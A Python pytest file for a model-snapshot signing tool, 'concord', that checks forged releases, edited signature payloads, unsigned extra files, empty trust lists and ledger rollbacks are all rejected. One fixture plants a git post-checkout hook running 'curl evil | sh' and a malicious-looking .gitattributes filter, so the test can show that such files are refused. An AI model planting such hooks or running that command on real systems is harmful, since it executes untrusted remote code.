"""Forged releases: trust is a statement about these bytes, decided in one place.

Each case is tried through the command line (``concord.cli.main``) and the library: a genuine
bundle copied onto other bytes, an edited payload, a root holding files no trusted key signed,
empty trust lists, a signer whose signature does not verify (never named), and the ledger memory
reached through other spellings of the same store."""

from __future__ import annotations

import base64
import json
import os
import shutil
from pathlib import Path

import pytest
from oms_interop import import_model_signing
from test_cli_trust import one_line_error as one_line

from concord.cli import main
from concord.errors import TrustPolicyError, UntrustedRootError
from concord.snapshots.refs import load_manifest
from concord.snapshots.restore import restore
from concord.snapshots.snapshot import snapshot
from concord.snapshots.sync import replicate
from concord.stores import LocalDirStore
from concord.trust import (
    ENV,
    check_root,
    load_policy,
    load_signing_key,
    sign_root,
    signature_ids,
    signature_key,
)
from concord.trust.signing import snapshot_signed

#: the exit status of verify and signatures for a root that is not trusted
UNTRUSTED = UntrustedRootError.exit_code


def oms_sign(folder: Path, sig: Path, key: Path) -> None:
    """Sign ``folder`` with the real ``model_signing`` (files, sha256; it ignores .git paths and the signature)."""
    ms = import_model_signing()
    hashing = ms.hashing.Config().set_ignored_paths(paths=[sig.name] if sig.parent == folder else [])
    ms.signing.Config().use_elliptic_key_signer(private_key=key).set_hashing_config(hashing).sign(folder, sig)


def run(capsys, *argv) -> tuple[int, dict | None, str, str]:
    """(exit status, JSON answer, stdout, stderr) of ``concord ARGV --json``."""
    code = main([*argv, "--json"])
    out, err = capsys.readouterr()
    try:
        doc = json.loads(out) if out.strip() else None
    except ValueError:
        doc = None
    return code, doc, out, err


def text(capsys, *argv) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(autouse=True)
def no_env_policy(monkeypatch):
    monkeypatch.delenv(ENV, raising=False)


@pytest.fixture
def release(tmp_path, keydir):
    """A folder signed by ``model_signing`` (bundle outside it), snapshotted with its bundle."""
    folder = tmp_path / "release"
    (folder / "sub").mkdir(parents=True)
    (folder / "weights.bin").write_bytes(os.urandom(200_000))
    (folder / "config.json").write_text('{"hidden": 8}')
    (folder / "sub" / "tok.txt").write_text("a b c")
    sig = tmp_path / "release.sig"
    oms_sign(folder, sig, keydir / "ossl.pem")
    store = LocalDirStore(tmp_path / "s")
    policy = load_policy(str(keydir / "ossl.pub.pem"))
    r, checked = snapshot_signed(folder, store, sig.read_bytes(), policy.keys, ref="models/m", chunk_size=64 * 1024)
    return folder, sig, store, r.root, policy, checked.key_id


@pytest.fixture
def forged(release, tmp_path):
    """Root B: the release's file names with other bytes, under the same ref, the genuine
    (root-less) bundle copied onto it; the same forgery on a second cluster."""
    folder, sig, store, genuine, policy, kid = release
    other = tmp_path / "forged"
    shutil.copytree(folder, other)
    (other / "weights.bin").write_bytes(b"forged" * 40_000)
    b = snapshot(other, store, ref="models/m", chunk_size=64 * 1024).root
    store.put_document(signature_key(b, kid), sig.read_bytes())
    second = LocalDirStore(tmp_path / "t")
    replicate(store, [second], ref="models/m")  # the forgery and its copied bundle travel
    assert signature_ids(second, b) == [kid]
    return store, second, b, genuine, policy, kid


# ----------------------------------------------------------------------------- copied bundles


def test_a_bundle_copied_onto_other_bytes_is_untrusted_by_every_command(forged, keydir, tmp_path, capsys):
    store, second, b, genuine, _, kid = forged
    pub = str(keydir / "ossl.pub.pem")
    code, ver, _, err = run(capsys, "verify", store.uri, "--ref", "models/m", "--trust", pub)
    assert code == UNTRUSTED and ver["trusted"] is False and ver["signed_by"] == [], (ver, err)
    code, sigs, _, err = run(capsys, "signatures", store.uri, "--ref", "models/m", "--trust", pub)
    assert code == UNTRUSTED and sigs["trusted"] is False and sigs["signed_by"] == [] and "weights.bin" in sigs["problems"][kid]
    one_line(err, b, "differ from what was signed")
    code, audit, _, err = run(capsys, "audit", "replicas", "--ref", "models/m", store.uri, second.uri, "--trust", pub)
    assert code == 3 and audit["severity"] == "critical", audit
    assert [r["trusted"] for r in audit["replicas"]["replicas"]] == [False, False]
    code, _, _, err = run(capsys, "restore", store.uri, "--ref", "models/m", str(tmp_path / "out"), "--trust", pub)
    assert code != 0 and not (tmp_path / "out").exists()
    one_line(err, b, "weights.bin")
    code, _, _, err = run(capsys, "sync", store.uri, str(tmp_path / "u"), "--ref", "models/m", "--trust", pub)
    assert code != 0 and not (tmp_path / "u" / "refs").exists()
    code, _, _, err = run(capsys, "checkout", store.uri, str(tmp_path / "node" / "current"), "--ref", "models/m", "--trust", pub)
    assert code != 0 and not (tmp_path / "node" / "current").exists()
    one_line(err, b)
    # the genuine release is still trusted by the same commands
    code, ver, _, _ = run(capsys, "verify", store.uri, "--root", genuine, "--trust", pub)
    assert code == 0 and ver["trusted"] is True and ver["signed_by"] == [kid]


def test_a_bundle_copied_onto_other_bytes_is_untrusted_by_the_library(forged, tmp_path):
    from concord.audit.replicas import compare_replicas

    store, second, b, genuine, policy, kid = forged
    v = policy.report(store, b)
    assert not v.trusted and v.signed_by == () and v.trusted_by is None and "differ from what was signed" in v.problems[kid]
    with pytest.raises(UntrustedRootError, match="weights.bin"):
        policy.require(store, b)
    with pytest.raises(UntrustedRootError):
        check_root(second, b, policy)
    report = compare_replicas({"a": (store, "models/m"), "b": (second, "models/m")}, trust=policy)
    assert report.severity == "critical" and [r.trusted for r in report.replicas] == [False, False]
    assert policy.report(store, genuine).trusted and policy.report(store, genuine).signed_by == (kid,)


def test_a_threshold_counts_distinct_keys_whose_signatures_hold(release, keydir, tmp_path):
    from concord.trust import TrustPolicy

    _, sig, store, genuine, _, kid = release
    two = TrustPolicy(load_policy(f"{keydir / 'ossl.pub.pem'},{keydir / 'alice.pub.pem'}").keys, "test", threshold=2)
    assert not two.report(store, genuine).trusted  # one signature of the two needed
    # the same bundle kept under another key id's name is still one key
    store.put_document(signature_key(genuine, "ab" * 32), sig.read_bytes())
    v = two.report(store, genuine)
    assert not v.trusted and v.signed_by == (kid,)
    sign_root(store, genuine, load_signing_key(keydir / "alice.pem"))
    assert two.report(store, genuine).trusted and len(two.report(store, genuine).signed_by) == 2
    with pytest.raises(TrustPolicyError, match="threshold"):
        TrustPolicy(two.keys, "test", threshold=3)


# ----------------------------------------------------------------------------- edited payloads


def _edited(data: bytes, new_root: str) -> bytes:
    """The bundle with its payload edited to name ``new_root`` (the signature left as it was)."""
    doc = json.loads(data)
    payload = json.loads(base64.b64decode(doc["dsseEnvelope"]["payload"]))
    payload["predicate"]["concord"]["root"] = new_root
    doc["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    return json.dumps(doc).encode()


@pytest.fixture
def edited(snap, keydir, model):
    """Root B (other bytes) carrying alice's bundle for root A with its payload edited to name B."""
    store, a = snap
    alice = load_signing_key(keydir / "alice.pem")
    _, data = sign_root(store, a, alice, ref="models/m")
    (model / "config.json").write_text('{"hidden": 99}')
    b = snapshot(model, store, ref="models/m", chunk_size=64 * 1024).root
    store.put_document(signature_key(b, alice.id), _edited(data, b))
    return store, a, b, alice.id


def test_an_edited_payload_is_untrusted_and_its_key_never_named_a_signer(edited, keydir, capsys):
    store, a, b, kid = edited
    pub = str(keydir / "alice.pub.pem")
    code, ver, _, _ = run(capsys, "verify", store.uri, "--ref", "models/m", "--trust", pub)
    assert code == UNTRUSTED and ver["trusted"] is False and ver["signed_by"] == [] and kid in ver["trust"][0]["problems"]
    code, out, _ = text(capsys, "verify", store.uri, "--ref", "models/m", "--trust", pub)
    _never_a_signer(out, kid)
    code, sigs, _, _ = run(capsys, "signatures", store.uri, "--ref", "models/m", "--trust", pub)
    assert code == UNTRUSTED and sigs["signed_by"] == [] and "does not verify" in sigs["problems"][kid]
    code, out, _ = text(capsys, "signatures", store.uri, "--ref", "models/m", "--trust", pub)
    _never_a_signer(out, kid)
    assert f"invalid signature from key id {kid[:16]}" in out
    code, log, _, _ = run(capsys, "log", store.uri, "models/m", "--trust", pub)
    by_root = {e["root"]: e for e in log["history"]}
    assert by_root[b]["signed_by"] == [] and by_root[a]["signed_by"] == [kid]
    code, out, _ = text(capsys, "log", store.uri, "models/m", "--trust", pub)
    (line_b,) = [line for line in out.splitlines() if b[:12] in line]
    _never_a_signer(line_b, kid)
    # the library says the same
    v = load_policy(pub).report(store, b)
    assert not v.trusted and v.signed_by == () and "does not verify" in v.problems[kid]


def test_without_a_policy_no_signature_is_shown_as_a_signer(edited, capsys):
    store, _, _, kid = edited
    code, out, _ = text(capsys, "log", store.uri, "models/m")
    assert code == 0 and "signed:" not in out and "unchecked" in out
    code, log, _, _ = run(capsys, "log", store.uri, "models/m")
    assert all(e["signed_by"] is None for e in log["history"])
    code, out, _ = text(capsys, "signatures", store.uri, "--ref", "models/m")
    _never_a_signer(out, kid)
    code, sigs, _, _ = run(capsys, "signatures", store.uri, "--ref", "models/m")
    assert sigs["signed_by"] is None and sigs["unchecked"] == [kid]
    code, ver, _, _ = run(capsys, "verify", store.uri, "--ref", "models/m")
    assert code == 0 and ver["signed_by"] is None and ver["trusted"] is None


def _never_a_signer(out: str, kid: str) -> None:
    """Every line naming ``kid`` says its signature is invalid or unchecked, never that it signed."""
    for line in out.splitlines():
        if kid[:12] in line:
            assert "invalid signature from key id" in line or "unchecked signature" in line, line
            assert "signed:" not in line and "signed by" not in line, line


# ----------------------------------------------------------------------------- unsigned files


@pytest.fixture
def unsigned_extra(tmp_path, keydir):
    """A folder signed by ``model_signing``, which ignores .git paths; the root snapshotted from
    it also holds a .gitattributes and a .git hook no key signed, and carries the bundle."""
    folder = tmp_path / "m"
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / "weights.bin").write_bytes(os.urandom(100_000))
    (folder / ".gitattributes").write_text("*.bin filter=evil")
    (folder / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    sig = tmp_path / "m.sig"
    oms_sign(folder, sig, keydir / "ossl.pem")
    store = LocalDirStore(tmp_path / "s")
    root = snapshot(folder, store, ref="models/m").root
    policy = load_policy(str(keydir / "ossl.pub.pem"))
    kid = policy.key_ids[0]
    store.put_document(signature_key(root, kid), sig.read_bytes())
    return store, root, policy, kid


def test_a_root_with_files_no_key_signed_is_untrusted_and_never_written(unsigned_extra, keydir, tmp_path, capsys):
    store, root, policy, kid = unsigned_extra
    pub = str(keydir / "ossl.pub.pem")
    code, _, _, err = run(capsys, "restore", store.uri, "--ref", "models/m", str(tmp_path / "out"), "--trust", pub)
    assert code != 0 and not (tmp_path / "out").exists()
    one_line(err, root, "files not signed", ".git")
    code, _, _, err = run(capsys, "checkout", store.uri, str(tmp_path / "node" / "current"), "--ref", "models/m", "--trust", pub)
    assert code != 0 and not (tmp_path / "node" / "current").exists()
    one_line(err, "files not signed")
    code, ver, _, _ = run(capsys, "verify", store.uri, "--ref", "models/m", "--trust", pub)
    assert code == UNTRUSTED and ver["trusted"] is False and "files not signed" in ver["trust"][0]["problems"][kid]
    v = policy.report(store, root)
    assert not v.trusted and ".gitattributes" in v.problems[kid]
    with pytest.raises(UntrustedRootError, match="files not signed"):
        restore(store, load_manifest(store, root), tmp_path / "out2", check_root=policy.restore_check)
    assert not (tmp_path / "out2").exists()


def test_snapshot_signature_keeps_only_the_files_the_bundle_signs(tmp_path, keydir, capsys):
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "weights.bin").write_bytes(os.urandom(100_000))
    (folder / ".gitattributes").write_text("*.bin filter=lfs")
    sig = folder / "model.sig"  # where model_signing's own docs put it
    oms_sign(folder, sig, keydir / "ossl.pem")
    pub = str(keydir / "ossl.pub.pem")
    store = tmp_path / "s"
    code, snap, _, err = run(capsys, "snapshot", str(folder), "--store", str(store), "--ref", "models/m", "--signature", str(sig), "--trust", pub)
    assert code == 0, err
    names = [f.path for f in load_manifest(LocalDirStore(store), snap["root"]).files]
    assert names == ["weights.bin"]
    code, _, _, err = run(capsys, "restore", str(store), "--ref", "models/m", str(tmp_path / "out"), "--trust", pub)
    assert code == 0, err
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["weights.bin"]
    assert load_policy(pub).require(LocalDirStore(store), snap["root"]).trusted


# ----------------------------------------------------------------------------- empty trust lists


def test_an_empty_trust_list_is_an_error_never_no_policy(snap, tmp_path, monkeypatch, capsys):
    store, _ = snap  # unsigned: without a policy it restores
    code, _, _, err = run(capsys, "restore", store.uri, "--ref", "models/m", str(tmp_path / "out"), "--trust", "")
    assert code != 0 and not (tmp_path / "out").exists()
    one_line(err, "--trust")
    code, _, _, err = run(capsys, "verify", store.uri, "--ref", "models/m", "--trust", "")
    assert code != 0
    one_line(err, "--trust")
    code, _, _, err = run(capsys, "sync", store.uri, str(tmp_path / "u"), "--ref", "models/m", "--trust", "  ")
    assert code != 0 and not (tmp_path / "u").exists()
    monkeypatch.setenv(ENV, "")
    code, _, _, err = run(capsys, "restore", store.uri, "--ref", "models/m", str(tmp_path / "out"))
    assert code != 0 and not (tmp_path / "out").exists()
    one_line(err, ENV)
    code, _, _, err = run(capsys, "checkout", store.uri, str(tmp_path / "node" / "current"), "--ref", "models/m")
    assert code != 0 and not (tmp_path / "node").exists()
    one_line(err, ENV)


def test_an_empty_trust_list_is_an_error_in_the_library():
    from concord_pipelines.blocks.trust import TrustBlock

    with pytest.raises(TrustPolicyError, match="--trust"):
        load_policy("")
    with pytest.raises(TrustPolicyError, match=ENV):
        load_policy(None, environ={ENV: " "})
    with pytest.raises(TrustPolicyError, match="no trusted key"):
        TrustBlock().get_policy()
    assert load_policy(None, environ={}) is None  # unset: no policy, as before


# ----------------------------------------------------------------------------- ledger memory


def _rolled_back(tmp_path, keydir, spelling: str):
    """A signed ledger verified at round 3 through ``spelling`` of its store, then rolled back to a
    copy taken at round 2."""
    from concord.federation.ledger import record_round

    real = tmp_path / "s"
    store = LocalDirStore(real)
    key = load_signing_key(keydir / "alice.pem")
    record = {"method": "exact", "inputs": [{"adapter": "t/a"}], "result": {"root": "0" * 64}}
    for i in (1, 2):
        record_round(store, "t", dict(record, result={"root": f"{i:064x}"}), key=key)
    parts = [real / "ledger" / "t", real / "refs" / "t"]
    for p in parts:
        shutil.copytree(p, tmp_path / "copy" / p.relative_to(real))
    record_round(store, "t", dict(record, result={"root": f"{3:064x}"}), key=key)
    trust = str(keydir / "alice.pub.pem")
    assert main(["federate", "verify", "t", "--store", spelling, "--trust", trust]) == 0
    for p in parts:
        shutil.rmtree(p)
        shutil.copytree(tmp_path / "copy" / p.relative_to(real), p)
    return store, trust


@pytest.mark.parametrize("seen_as", ["real", "link", "link/", "relative"])
def test_the_ledger_memory_knows_a_store_under_another_spelling(tmp_path, keydir, monkeypatch, capsys, seen_as):
    from concord.federation.seen import LedgerMemory

    monkeypatch.setenv("CONCORD_HOME", str(tmp_path / "home"))
    os.symlink(tmp_path / "s", tmp_path / "link", target_is_directory=True)
    monkeypatch.chdir(tmp_path)
    spellings = {"real": str(tmp_path / "s"), "link": str(tmp_path / "link"), "link/": str(tmp_path / "link") + "/", "relative": "./s/"}
    _, trust = _rolled_back(tmp_path, keydir, spellings[seen_as])
    capsys.readouterr()
    for name, spelling in spellings.items():
        code = main(["federate", "verify", "t", "--store", spelling, "--trust", trust])
        _, err = capsys.readouterr()
        assert code != 0 and "this machine saw it at round 3" in err, (seen_as, name, err)
        assert LedgerMemory().recall(LocalDirStore(spelling), "t").round == 3


def test_s3_store_identity_ignores_how_the_endpoint_and_prefix_were_typed():
    from concord.federation.seen import store_identity
    from concord.stores.s3 import S3ObjectStore

    same = [
        S3ObjectStore("bucket", "team/store", endpoint_url="http://127.0.0.1:9000"),
        S3ObjectStore("bucket", "/team/store/", endpoint_url="http://127.0.0.1:9000/"),
        S3ObjectStore("bucket", "team/store", endpoint_url="HTTP://LOCALHOST:9000"),
        S3ObjectStore("bucket", "team/store", endpoint_url="http://localhost.:9000/"),
        S3ObjectStore("bucket", "team/store", endpoint_url="http://[::1]:9000"),
    ]
    assert len({store_identity(s) for s in same}) == 1, [store_identity(s) for s in same]
    assert store_identity(S3ObjectStore("bkt", "p", endpoint_url="https://s3.example.com:443")) == store_identity(
        S3ObjectStore("bkt", "p", endpoint_url="https://S3.example.com/")
    )
    others = [
        S3ObjectStore("bucket", "team/other", endpoint_url="http://127.0.0.1:9000"),
        S3ObjectStore("other", "team/store", endpoint_url="http://127.0.0.1:9000"),
        S3ObjectStore("bucket", "team/store", endpoint_url="http://127.0.0.1:9001"),
    ]
    assert len({store_identity(s) for s in same[:1] + others}) == 4


def test_the_ledger_memory_knows_an_s3_store_through_another_endpoint_spelling(moto_server, keydir, tmp_path, monkeypatch, capsys):
    import uuid

    from concord.federation.ledger import record_round
    from concord.stores.s3 import S3ObjectStore

    monkeypatch.setenv("CONCORD_HOME", str(tmp_path / "home"))
    port = moto_server.rsplit(":", 1)[1].rstrip("/")
    bucket = f"ledger-{uuid.uuid4().hex[:12]}"
    store = S3ObjectStore(bucket, "fed", endpoint_url=moto_server, create_bucket=True)
    key = load_signing_key(keydir / "alice.pem")
    for i in (1, 2, 3):
        record_round(store, "t", {"method": "exact", "inputs": [{"adapter": "t/a"}], "result": {"root": f"{i:064x}"}}, key=key)
    trust = str(keydir / "alice.pub.pem")
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{port}")
    assert main(["federate", "verify", "t", "--store", f"s3://{bucket}/fed", "--trust", trust]) == 0
    seen = json.loads((tmp_path / "home" / "ledgers-seen.json").read_text())["ledgers"]
    assert len(seen) == 1
    # the same store through another spelling of its endpoint and prefix: not "first seen"
    from concord.federation.seen import LedgerMemory

    other = S3ObjectStore(bucket, "/fed/", endpoint_url=f"http://localhost:{port}/")
    assert LedgerMemory().recall(other, "t").round == 3
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://LOCALHOST:{port}/")
    assert main(["federate", "verify", "t", "--store", f"s3://{bucket}/fed/", "--trust", trust]) == 0
    assert json.loads((tmp_path / "home" / "ledgers-seen.json").read_text())["ledgers"] == seen
    store.close()
    other.close()


def test_old_memory_entries_are_still_read(tmp_path, keydir, monkeypatch, capsys):
    """A memory written before stores were named by their identity (the path as typed, through a
    link) still holds the ledger for the store reached by its real path."""
    from concord.federation.seen import MEMORY_FORMAT, LedgerMemory

    home = tmp_path / "home"
    monkeypatch.setenv("CONCORD_HOME", str(home))
    os.symlink(tmp_path / "s", tmp_path / "link", target_is_directory=True)
    _, trust = _rolled_back(tmp_path, keydir, str(tmp_path / "s"))
    seen = json.loads((home / "ledgers-seen.json").read_text())
    entry = next(iter(seen["ledgers"].values()))
    old = {"format": MEMORY_FORMAT, "ledgers": {str(tmp_path / "link"): entry, "s3://bkt/p/ at http://localhost:80/": entry}}
    (home / "ledgers-seen.json").write_text(json.dumps(old))
    capsys.readouterr()
    code = main(["federate", "verify", "t", "--store", str(tmp_path / "s"), "--trust", trust])
    _, err = capsys.readouterr()
    assert code != 0 and "this machine saw it at round 3" in err, err
    from concord.stores.s3 import S3ObjectStore

    assert LedgerMemory().recall(S3ObjectStore("bkt", "p", endpoint_url="http://127.0.0.1"), "t").round == 3
